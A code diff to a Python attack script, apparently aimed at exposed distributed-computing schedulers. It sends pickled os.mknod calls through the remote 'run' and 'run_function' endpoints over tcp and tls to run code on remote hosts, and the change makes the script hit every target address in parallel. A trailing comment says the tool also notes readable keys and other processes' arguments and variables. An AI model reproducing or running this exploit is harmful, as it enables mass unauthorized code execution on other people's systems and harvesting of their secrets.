@@ -50,13 +50,14 @@ async def attack(address, security):
         for run in (them.run, them.run_function):
             function, arguments = dumps(os.mknod), dumps((place + "/" + address.rpartition("/")[2],))
             print(await asyncio.wait_for(run(function=function, args=arguments, wait=True), 3))
+async def tried(address, scheme, security):
+    try:
+        await attack(f"{scheme}://{address}", security)
+    except Exception as error:
+        print(f"{address} {scheme}: {error!r}")
 async def all():
-    for address in addresses:
-        for scheme, security in (("tcp", Security()), ("tls", own)):
-            try:
-                await attack(f"{scheme}://{address}", security)
-            except Exception as error:
-                print(f"{address} {scheme}: {error!r}")
+    ways = (("tcp", Security()), ("tls", own))
+    await asyncio.gather(*(tried(address, *way) for address in addresses for way in ways))
 asyncio.run(all())
 """
 # Waits until it is let go, and notes keys that others could read, and the processes whose words and variables it has seen.
